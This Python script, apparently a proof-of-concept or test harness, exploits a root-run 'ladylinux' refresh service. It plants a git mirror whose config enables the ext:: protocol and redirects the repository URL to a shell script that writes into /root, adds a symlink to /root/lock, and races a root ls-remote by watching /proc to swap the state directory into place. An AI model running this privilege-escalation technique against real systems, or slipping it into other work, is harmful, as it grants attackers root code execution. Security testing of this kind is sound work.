"""Makes a state directory as 0.1 had it, with a mirror whose configuration starts a program, and moves it to its place.

Arguments: `wait` (until root contacts the remote) or `now`; seconds; the repository's address.
"""

import os
import subprocess
import sys

from tracing import for_seconds, note, read

HOME = "/var/lib/ladylinux"
how, seconds, url = sys.argv[1:]

with open(f"{HOME}/x.sh", "w") as script:
    script.write("#!/bin/sh\nid >/root/PWNED-BY-STATE\nexit 1\n")
os.chmod(f"{HOME}/x.sh", 0o755)
mirror = f"{HOME}/.s/mirror.git"
subprocess.run(["git", "init", "--quiet", "--bare", "--initial-branch=main", mirror], check=True)
with open(f"{mirror}/config", "a") as config:
    config.write(f'[protocol]\n\tallow = always\n[protocol "ext"]\n\tallow = always\n')
    for address in (url, url.partition("://")[0] + "://"):
        config.write(f'[url "ext::{HOME}/x.sh "]\n\tinsteadOf = {address}\n')
os.makedirs(f"{HOME}/.s/git", exist_ok=True)
subprocess.run(["cp", f"{mirror}/config", f"{HOME}/.s/git/.gitconfig"], check=True)
os.symlink("/root/lock", f"{HOME}/.s/lock")
note("prepared")
for _ in for_seconds(float(seconds)):
    names = [name for name in os.listdir("/proc") if name.isdigit()]
    if how == "now" or any(b"ls-remote" in read(f"/proc/{name}/cmdline") for name in names):
        for place in (f"{HOME}/refresh", "/var/lib/ladylinux-refresh", "/opt/ladylinux-refresh"):
            try:
                os.rename(f"{HOME}/.s", place)
                note("planted", place)
                sys.exit()
            except OSError as error:
                note("refused", place, error)
        if how == "now":
            break
